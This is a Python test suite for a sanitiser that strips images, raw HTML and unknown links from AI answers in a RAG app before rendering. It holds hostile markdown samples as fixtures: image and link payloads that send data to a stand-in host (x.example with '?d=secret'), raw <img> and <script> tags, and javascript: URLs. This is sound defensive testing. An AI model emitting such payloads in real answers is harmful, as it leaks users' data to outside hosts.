"""Rendering model output: what a hostile answer would need to leak data or inject HTML is removed.

Every output is checked the way it will be drawn: parsed again by a CommonMark + GFM parser with
raw HTML and autolinking of bare URLs on (Streamlit's react-markdown links `www.` and `https://`
text too). It must hold no image, no HTML, and no link but to a URL of the sources.
"""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from rag.answer.safe_markdown import known_urls, safe_markdown

SOURCE_URL = "https://help.example.com/returns"
EVIL = "https://x.example/p.png?d=secret"
_RENDERER = MarkdownIt("gfm-like")  # html and linkify on: the strictest reading of the output
# What a GFM autolinker may still turn into a link in plain text (scheme, www., e-mail address).
_LINKABLE = re.compile(r"://|www\.|[\w.+-]@[\w-]+\.\w|\b(?:mailto|xmpp):", re.IGNORECASE)


def rendered(text: str) -> list[Token]:
    """The tokens of `text` as a renderer sees them, inline children included."""
    tokens: list[Token] = []
    for token in _RENDERER.parse(text):
        tokens.append(token)
        tokens.extend(token.children or [])
    return tokens


def hazards(shown: str, allowed: set[str] = frozenset()) -> list[str]:  # type: ignore[assignment]
    """What in `shown` would load, link or inject something when drawn; empty when it is safe."""
    found: list[str] = []
    link_depth = 0
    for token in rendered(shown):
        if token.type == "image" or token.type.startswith("html"):
            found.append(f"{token.type}: {token.content or token.attrs}")
        elif token.type == "link_open":
            link_depth += 1
            if token.attrs.get("href") not in allowed:
                found.append(f"link to {token.attrs.get('href')}")
        elif token.type == "link_close":
            link_depth -= 1
        elif token.type == "text" and not link_depth and _LINKABLE.search(token.content):
            found.append(f"linkable text: {token.content}")
    return found


# The issue's reproductions: each slipped past the regex sanitiser.
ISSUE_CASES = [
    pytest.param(f"Look ![a\nb]({EVIL}) here", id="image alt over two lines"),
    pytest.param("Please [click\nhere](https://x.example/?d=1) now", id="link text over two lines"),
    pytest.param(f"Use \\`![x]({EVIL}) then `", id="escaped backtick before an image"),
    pytest.param(f"Text ```![x]({EVIL}) more", id="unclosed triple backtick run"),
    pytest.param("See (https://x.example/?d=1) now", id="autolink after a parenthesis"),
    pytest.param("See _https://x.example/?d=1_ now", id="autolink after an underscore"),
    pytest.param("- [r]: https://x.example/?d=1\n\n[click][r]", id="reference definition in a list item"),
    pytest.param("- [r]: https://x.example/p.png\n\n![x][r] and [y][r]", id="reference image in a list"),
    pytest.param('<img src="https://x.example/p.png">', id="raw html image"),
    pytest.param("<https://x.example/?d=1>", id="angle autolink"),
    pytest.param("[mail](mailto:a@x.example) or a@x.example", id="mail links"),
    pytest.param("Visit www.x.example today", id="www autolink"),
    pytest.param('Click [here](<//x.example/?d=1> "t") now', id="protocol-relative link"),
    pytest.param("*https://x.example/?d=1*", id="url in emphasis"),
]


@pytest.mark.parametrize("answer", ISSUE_CASES)
def test_hostile_markdown_renders_no_image_or_unknown_link(answer: str) -> None:
    assert hazards(answer), "the reproduction must be hostile as written"
    assert hazards(safe_markdown(answer)) == []


@pytest.mark.parametrize(
    ("answer", "shown"),
    [
        (f"See ![chart]({EVIL}) [1].", "See [image: chart] [1]."),
        (f"![]({EVIL})", "[image]"),
        ("![logo][ref]\n\n[ref]: https://x.example/l.png", "[image: logo]"),
        ("Click [here](https://x.example/?d=refunds) now", "Click here now"),
        ("Visit https://x.example/?d=x today", "Visit `https://x.example/?d=x` today"),
        (
            "Done [1][2]. Mail a@x.example (or x.com).",
            "Done [1][2]. Mail `a@x.example` (or `x.com`).",
        ),
        ("<script>alert(1)</script> ok", "&lt;script>alert(1)&lt;/script> ok"),
        ("a < b and **bold** _it_", "a &lt; b and **bold** _it_"),
    ],
)
def test_what_is_removed_stays_readable(answer: str, shown: str) -> None:
    assert safe_markdown(answer) == shown


def test_links_to_urls_in_the_sources_are_kept() -> None:
    allowed = known_urls([f"Our policy is at {SOURCE_URL}. Call us."])
    assert allowed == {SOURCE_URL}
    assert safe_markdown(f"See [the policy]({SOURCE_URL}) [1].", allowed) == (
        f"See [the policy]({SOURCE_URL}) [1]."
    )
    assert safe_markdown(f"See {SOURCE_URL} [1].", allowed) == f"See [{SOURCE_URL}]({SOURCE_URL}) [1]."
    # The same host with data appended is not a known URL.
    assert safe_markdown(f"[x]({SOURCE_URL}?leak=1)", allowed) == "x"
    # Even a known URL is never loaded as an image.
    assert safe_markdown(f"![x]({SOURCE_URL})", allowed) == "[image: x]"
    # A `!` right before a kept link must not turn it into an image.
    shown = safe_markdown(f"Wow\\![the policy]({SOURCE_URL})", allowed)
    assert hazards(shown, allowed) == [] and f"]({SOURCE_URL})" in shown


def test_answers_keep_their_structure() -> None:
    answer = (
        "## Refunds\n\nYou can:\n\n1. return it **within 30 days** [1]\n2. keep the _receipt_\n"
        "   - or a ~~photo~~ of it\n\n> Note: see `policy.md`.\n\n| Item | Days |\n|:--|--:|\n"
        "| Shoes | 30 |\n\n---\n\nDone.\\\nBye"
    )
    shown = safe_markdown(answer)
    assert shown == (
        "## Refunds\n\nYou can:\n\n1. return it **within 30 days** [1]\n2. keep the _receipt_\n"
        "   - or a ~~photo~~ of it\n\n> Note: see `policy.md`.\n\n| Item | Days |\n| :-- | --: |\n"
        "| Shoes | 30 |\n\n---\n\nDone.\\\nBye"
    )
    assert [t.type for t in _RENDERER.parse(shown)] == [t.type for t in _RENDERER.parse(answer)]


def test_code_is_kept_as_code() -> None:
    answer = "Run `curl <url>` or:\n```html\n<b>![x](http://e/x.png)</b>\n```\nthen <b>"
    assert safe_markdown(answer) == (
        "Run `curl <url>` or:\n\n```html\n<b>![x](http://e/x.png)</b>\n```\n\nthen &lt;b>"
    )
    # A fence longer than any backtick run inside; an unclosed fence is closed.
    assert safe_markdown("````\n```\n![x](http://e/x.png)") == "````\n```\n![x](http://e/x.png)\n````"
    assert safe_markdown("`` `a ``") == "`` `a ``"


def test_text_cannot_form_markup_again() -> None:
    for answer in ["\\# not a heading", "1\\. not a list", "\\![x](y)", "\\<b>", "a \\| b", "&amp;lt;"]:
        shown = safe_markdown(answer)
        types = {t.type for t in rendered(shown)}
        assert types <= {"paragraph_open", "inline", "text", "paragraph_close"}, (answer, shown)
        assert "".join(t.content for t in rendered(shown) if t.type == "text") == (
            "".join(t.content for t in rendered(answer) if t.type == "text")
        )


def test_a_half_streamed_answer_never_renders_an_image() -> None:
    text = f"Answer **bold** ![x]({EVIL}) and [y](https://x.example/) ```\ncode"
    for end in range(len(text) + 1):
        assert hazards(safe_markdown(text[:end])) == []
        assert hazards(safe_markdown(text[:end] + ")")) == []


def test_a_streamed_answer_is_sanitised_in_a_few_milliseconds() -> None:
    answer = (
        "Refunds take **5 days** [1]. See [the policy](https://help.example.com/returns) and "
        "`the form`.\n\n- one _item_ [2]\n- two ![x](https://x.example/p.png)\n\n"
    ) * 14
    assert len(answer) > 2000
    safe_markdown(answer, {SOURCE_URL})
    started = time.perf_counter()
    for _ in range(20):
        safe_markdown(answer, {SOURCE_URL})
    assert (time.perf_counter() - started) / 20 < 0.05  # measured ~3 ms; generous for a busy CI


# Random Markdown with planted images, links, raw HTML and bare URLs.
_URLS = st.sampled_from(
    [SOURCE_URL, EVIL, "http://x.example", "www.x.example/a", "mailto:a@x.example", "javascript:alert(1)"]
)
_PIECES = st.one_of(
    st.sampled_from(
        [
            "\n",
            "\n\n",
            " ",
            "- ",
            "1. ",
            "> ",
            "# ",
            "```",
            "`",
            "~~~",
            "    ",
            "|",
            "| --- |",
            "*",
            "**",
            "_",
            "~~",
            "\\",
            "[",
            "]",
            "(",
            ")",
            "!",
            "<",
            ">",
            "&",
            ":",
            "www.",
            "@",
            "a@x.example",
            "[1]",
            "<img src=x>",
            "<div>",
            "[r]: ",
            "\t",
            "&#33;",
            "&lt;",
            "$",
            "=",
            "---",
        ]
    ),
    st.text(alphabet="abc xyz.,", min_size=1, max_size=6),
    _URLS,
    st.builds(lambda t, u: f"![{t}]({u})", st.text(max_size=5), _URLS),
    st.builds(lambda t, u: f"[{t}]({u})", st.text(max_size=5), _URLS),
    st.builds(lambda u: f"<{u}>", _URLS),
    st.builds(lambda t, u: f"\n[{t}]: {u}\n", st.sampled_from(["r", "ref", "1"]), _URLS),
    st.builds(lambda t: f"![x][{t}] [y][{t}] [{t}]", st.sampled_from(["r", "ref", "1"])),
)
_MARKDOWN = st.lists(_PIECES, max_size=40).map("".join)
_AROUND = st.text(alphabet="`[]()!<>*_~:/\n -ab", max_size=30) | st.text(max_size=30)


@settings(max_examples=500, deadline=None)
@given(_MARKDOWN)
def test_random_markdown_never_renders_an_image_or_an_unknown_link(answer: str) -> None:
    shown = safe_markdown(answer, {SOURCE_URL})
    assert hazards(shown, {SOURCE_URL}) == []


@settings(max_examples=500, deadline=None)
@given(_AROUND, _AROUND)
def test_any_text_around_a_planted_image_is_safe(before: str, after: str) -> None:
    shown = safe_markdown(f"{before}![a]({EVIL}){after} [b](https://x.example/)")
    assert hazards(shown) == []
